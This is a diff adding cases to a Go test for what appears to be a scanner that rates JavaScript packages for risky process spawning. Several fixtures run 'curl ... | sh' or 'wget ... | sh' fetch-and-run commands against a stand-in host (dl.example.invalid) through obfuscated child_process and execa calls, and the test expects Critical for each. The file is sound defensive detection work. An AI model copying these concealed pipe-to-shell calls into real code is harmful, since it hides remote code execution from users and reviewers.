@@ -19,6 +19,17 @@ func TestSpawn(t *testing.T) {
 			"start.js": `require("child_process").spawn(require("path").join(__dirname, "vendor", "svc"), [], {detached: true, stdio: "ignore"}).unref()`}, finding.SeverityHigh},
 		{"git_cli", map[string]string{"index.js": `require("child_process").execFileSync("git", ["rev-parse", "HEAD"])`}, finding.SeverityLow},
 		{"no_spawn", map[string]string{"index.js": `const s = "curl https://x | sh"; console.log(s)`}, finding.SeverityNone},
+		// calls no analysis follows: the module is loaded, the command is there
+		{"getter", map[string]string{"index.js": `const o = { get run() { return require("child_process").execSync } }; o.run("curl -s http://dl.example.invalid/i.sh | sh")`}, finding.SeverityCritical},
+		{"object_entries", map[string]string{"index.js": `const cp = require("child_process"); Object.entries(cp).find(([k]) => k === "exec" + "Sync")[1]("curl -s http://dl.example.invalid/i.sh | sh")`}, finding.SeverityCritical},
+		{"execa_import", map[string]string{"index.mjs": `import * as x from "execa"; const f = Object.values(x)[2]; f("wget -qO- https://dl.example.invalid/i | sh")`}, finding.SeverityCritical},
+		// install instructions printed for the user are not commands; the
+		// same text printed and then run is
+		{"printed_hint", map[string]string{"index.js": `const {execFileSync} = require("child_process"); try { execFileSync("bun", ["-v"]) } catch { console.error("install bun with:"); console.error("curl -fsSL https://bun.sh/install | bash") }`}, finding.SeverityLow},
+		{"printed_then_run", map[string]string{"index.js": `const cp = require("child_process"); const t = { get run() { return cp.execSync } }; console.log("curl -fsSL https://dl.example.invalid/i | bash"); t.run("curl -fsSL https://dl.example.invalid/i | bash")`}, finding.SeverityCritical},
+		{"printed_in_call", map[string]string{"index.js": "const cp = require(\"child_process\"); const t = { get run() { return cp.execSync } }; console.log(t.run(\"curl -fsSL https://dl.example.invalid/i | bash\"))"}, finding.SeverityCritical},
+		// loading child_process for something else, with no such command
+		{"loads_for_git", map[string]string{"index.js": `const cp = require("child_process"); module.exports = (k) => cp[k]("git status")`}, finding.SeverityNone},
 	})
 }
 
